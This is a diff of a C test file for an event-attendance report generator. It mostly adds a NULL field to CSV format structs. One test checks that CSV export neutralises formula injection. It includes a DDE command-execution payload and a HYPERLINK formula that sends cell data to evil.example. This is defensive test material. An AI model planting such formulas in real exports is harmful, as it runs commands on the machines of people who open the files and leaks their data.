@@ -61,7 +61,7 @@ static char *render(bool rev, int copies, struct report **out)
         }
     }
     struct report *r = report_compute(ev, log);
-    struct report_csv_format f = {',', false, false};
+    struct report_csv_format f = {',', false, false, NULL};
     struct strbuf sb = {0};
     char *parts[] = {report_attendance_csv(r, &f), report_attendees_csv(r, &f),
                      report_occupancy_csv(r, &f), report_arrivals_csv(r, &f), report_html(r)};
@@ -152,7 +152,7 @@ static void test_over_capacity(void)
         CHECK_STR(r->overflows[0].device, "d2");
         CHECK(!r->overflows[0].override);
     }
-    struct report_csv_format f = {',', false, false};
+    struct report_csv_format f = {',', false, false, NULL};
     char *csv = report_over_capacity_csv(r, &f);
     CHECK(strstr(csv, ",lab.1,,13,12,") != NULL && strstr(csv, ",d2,no\r\n") != NULL);
     char *html = report_html(r);
@@ -168,7 +168,7 @@ static void test_csv_format(void)
     struct report_log *log = report_log_create();
     struct report *r = report_compute(ev, log);
     CHECK(r->scans == 0 && r->n_slots > 0);
-    struct report_csv_format f = {';', true, false};
+    struct report_csv_format f = {';', true, false, NULL};
     char *text = report_attendance_csv(r, &f);
     CHECK(strncmp(text, "\xEF\xBB\xBFsession;room;title;", 22) == 0);
     CHECK(strstr(text, ";\"Panel: privacy, safety and events\";") == NULL); /* no ';' inside */
@@ -249,7 +249,7 @@ static void test_formula_cells(void)
     set_text(&ev->sessions[0].title, "=1+1");
     struct report_log *log = report_log_create();
     struct report *r = report_compute(ev, log);
-    struct report_csv_format f = {',', false, false};
+    struct report_csv_format f = {',', false, false, NULL};
     char *people = report_attendees_csv(r, &f), *sessions = report_attendance_csv(r, &f);
     CHECK(strstr(people, ",'=cmd|' /C calc'!A0,") != NULL);
     CHECK(strstr(people, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",") !=
